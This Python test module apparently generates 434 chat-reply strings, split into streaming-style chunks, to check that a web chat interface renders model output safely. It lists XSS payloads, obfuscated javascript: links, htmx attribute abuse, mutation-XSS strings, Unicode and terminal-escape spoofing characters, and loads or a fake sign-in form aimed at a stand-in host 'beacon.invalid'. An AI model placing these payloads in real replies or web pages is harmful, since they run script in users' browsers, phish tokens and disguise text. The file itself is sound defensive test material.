"""What a model may write to act in the page, to be shown as somebody else, or to stop it: 434 outputs, and what none
of them may become."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ACT = "window.__pwned=1"  # what a script would do; every request to BEACON is an effect too
BEACON = "http://beacon.invalid"

# what carries an effect, once it is an element
ELEMENTS = [
    f"<script>{ACT}</script>", f"<img src=x onerror={ACT}>", f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>", f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<details open ontoggle={ACT}>", f"<body onload={ACT}>",
    f"<math><mi xlink:href='javascript:{ACT}'>x</mi></math>", f"<a href='javascript:{ACT}'>x</a>",
    f"<input autofocus onfocus={ACT}>", f"<video><source onerror={ACT}></video>", f"<object data='javascript:{ACT}'>",
    f"<embed src='{BEACON}'>", f"<link rel=stylesheet href='{BEACON}'>", f"<style>@import '{BEACON}';</style>",
    f"<img src='{BEACON}'>", f"<img srcset='{BEACON} 2x'>", f"<picture><source srcset='{BEACON}'><img></picture>",
    f"<base href='{BEACON}'>", f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<a ping='{BEACON}' href=/>x</a>", f"<form action='{BEACON}'><input name=token><button>Sign in</button></form>",
    "<button form=stop>x</button>", "<template><p>x</p></template>", "<title>Signed out</title>",
    "<textarea id=text>x</textarea>", "<dialog open>x", "<div hx-get=/model hx-trigger=load hx-target=body>x</div>",
    "<div hx-post=/chat/1/stop hx-trigger=load>x</div>",
    "<div data-hx-post=/redirect/hello data-hx-trigger=load>x</div>", f"<div hx-on:load={ACT}>x</div>",
    f"<div hx-on-htmx-load={ACT}>x</div>", f"<div hx-vals='js:{{a:{ACT}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-sse-connect=/events/1>x</div>", "<div hx-boost=true><a href=/model>x</a></div>",
    "<div id=composer hx-swap-oob=true>x</div>", "<div hx-swap-oob='delete:#composer'>x</div>",
    "<hx-partial hx-target=#composer hx-swap=delete></hx-partial>", "<hx-partial hx-target=body>Gone</hx-partial>",
    "<hx-a onerror=x>", "<div id=main hx-preserve>x</div>", "<div id=log-items>x</div>",
    "<p class='notice bad'>x</p>", "<p style='position:fixed;inset:0'>x</p>", "<!-- x", "<![CDATA[ x", "<?x",
    "</div></article></div></main>", "</span></p></div><div id=composer>", "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=x>'>",
    "<svg><style><img title='</style><img src=x onerror=x>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x>",
    "<select><template><script>1</script></template></select>", "<frameset><frame src=/>",
    "<xmp><script>1</script></xmp>",
]
# where it stands in a text
PLACES = [
    "{}", "before {} after", "*{}*", "- {}\n- two", "> {}", "| a | b |\n|---|---|\n| {} | x |\n",
]
INLINE = [
    "`{}`", "```\n{}\n```", "```html\n{}\n```", "    {}",
]
# a link or picture that is to act when it is followed, or without that
ADDRESSES = [
    f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f"java\tscript:{ACT}", f"&#106;avascript:{ACT}",
    f"javascript&colon;{ACT}", f"\x01javascript:{ACT}", f"%6aavascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>", "data:image/svg+xml,<svg>", f"vbscript:{ACT}", "file:///etc/hostname",
    "blob:null", "about:blank", "//beacon.invalid", "/chat/1/stop", "?chat=2", "#composer", "\\\\beacon.invalid",
    "http:\\\\beacon.invalid", "http://127.0.0.1@beacon.invalid", "http:///x", "ftp://beacon.invalid", "x:y",
    "mailto:a@b.example?body=<b>", "http://[::1]/\" onmouseover=x a=\"", "http://a.example/<hx-a onerror=x>",
    "http://a.example/`\"'>", "http://аpple.example", "tel:1", "view-source:http://x",
]
FORMS = ["[x]({})", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[x]({} \"<hx-a onerror=x>\")"]
# text that is to be read as something else, or as nothing
SPOOFS = [
    "\u202egpj.exe", "a\u200bb", "\U000e0041\U000e0042", "\x1b[31mred", "\x00", "\x9b31m", "\ufeff", "\u2066x\u2069",
    "&#8238;gpj", "&#x202e;x", "&#0;", "&#27;[2J", "\u2028x", "\x85x", "\u180e", "\xad\xad", "\x0bx",
    "\ufff9a\ufffab\ufffb",
]


def outputs() -> list[str]:
    """All 434, each a whole reply."""
    found = [place.format(element) for element, place in product(ELEMENTS, PLACES[:4])]
    found += [place.format(ELEMENTS[number % len(ELEMENTS)]) for number, place in enumerate((PLACES[4:] + INLINE) * 7)]
    found += [form.format(address) for form, address in product(FORMS, ADDRESSES)]
    found += SPOOFS
    return found


def chunks(text: str, number: int) -> tuple[str, ...]:
    """The text in pieces as a model might give them: single characters, or odd lengths, or cut at every bracket."""
    match number % 3:
        case 0:
            sizes = [1]
        case 1:
            sizes = [2, 7, 1, 3]
        case _:
            return tuple(piece for piece in _cut(text) if piece)
    pieces, at, turn = [], 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        pieces.append(text[at:at + size])
        at, turn = at + size, turn + 1
    return tuple(pieces)


def _cut(text: str) -> Iterator[str]:
    start = 0
    for at, sign in enumerate(text):
        if sign in "<>&\"'=:[(`|":
            yield text[start:at + 1]
            start = at + 1
    yield text[start:]
